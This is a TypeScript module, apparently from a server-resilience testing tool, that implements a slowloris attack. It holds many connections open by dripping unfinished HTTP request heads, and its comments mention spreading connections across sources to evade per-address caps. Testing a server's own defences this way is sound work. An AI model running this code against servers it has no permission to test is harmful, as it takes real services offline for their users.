/**
 * Slowloris: many connections that each send a request head a byte at a time and never finish it, to
 * hold the server's sockets. "Repelled" (docs/threats.md) means header timeouts and per-address connection
 * caps free the sockets while real visitors still connect: the result says how many the server closed
 * and after how long. Spread over many sources to stay under per-address caps, or one source to test them.
 */
import { runSlowConnections, type SlowAttackResult, type SlowConnectionOptions, type SlowSocketContext } from './slow-connections.ts';
import { BROWSER_USER_AGENTS } from './traffic-shapes.ts';

/** Options of {@link runSlowloris}. */
export interface SlowlorisOptions extends SlowConnectionOptions {
  /** Bytes sent at connect: by default the request line only (`GET /path HTTP/1.1\r\n`). */
  readonly openingBytes?: 'request_line' | 'request_line_and_host';
  /** Bytes dripped per socket per tick. Default 1. */
  readonly bytesPerTick?: number;
}

/** Runs slowloris until its bounds stop it; the head is never completed. */
export function runSlowloris(options: SlowlorisOptions): Promise<SlowAttackResult> {
  const perTick = options.bytesPerTick ?? 1;
  const streams = new WeakMap<SlowSocketContext, HeadStream>();
  return runSlowConnections('slowloris', options, {
    watchAnswers: true,
    open(ctx) {
      const ua = BROWSER_USER_AGENTS[ctx.index % BROWSER_USER_AGENTS.length];
      const head = `GET ${ctx.path} HTTP/1.1\r\nHost: ${ctx.host}\r\nUser-Agent: ${ua}\r\nAccept: */*\r\n`;
      const opening = options.openingBytes === 'request_line_and_host' ? head.indexOf('User-Agent') : head.indexOf('\r\n') + 2;
      ctx.write(head.slice(0, opening));
      streams.set(ctx, createHeadStream(head.slice(opening)));
    },
    tick(ctx) {
      const stream = streams.get(ctx);
      if (stream) ctx.write(stream.next(perTick));
    },
  });
}

interface HeadStream {
  next(n: number): string;
}

/** The bytes of `start`, then endless `X-<n>: <n>\r\n` header lines — never the blank line ending a head. */
function createHeadStream(start: string): HeadStream {
  let pending = start;
  let line = 0;
  return {
    next(n) {
      while (pending.length < n) pending += `X-${(line++).toString(36)}: ${line}\r\n`;
      const out = pending.slice(0, n);
      pending = pending.slice(n);
      return out;
    },
  };
}
